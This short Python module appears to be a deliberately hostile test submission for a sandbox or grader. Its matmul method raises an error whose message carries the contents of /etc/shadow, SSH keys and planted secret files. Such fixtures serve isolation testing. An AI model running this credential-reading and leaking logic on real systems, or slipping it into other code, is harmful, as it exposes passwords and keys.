"""Reads what is not its own and publishes it through its failure reason."""
import glob
import os

from .honest import Honest

SECRET_NAME = "tinytorch-hostile-secret"


def _loot() -> str:
    found = []
    candidates = ["/etc/shadow", f"/root/{SECRET_NAME}",
                  *glob.glob(f"/home/*/{SECRET_NAME}"), *glob.glob("/root/.ssh/*")]
    for path in candidates:
        try:
            with open(path) as f:
                found.append(f"{path}: {f.read(200)}")
        except OSError as exc:
            found.append(f"{path}: {type(exc).__name__}")
    return "; ".join(found)


class SecretsReader(Honest):
    def matmul(self, a, b):
        raise PermissionError(_loot())
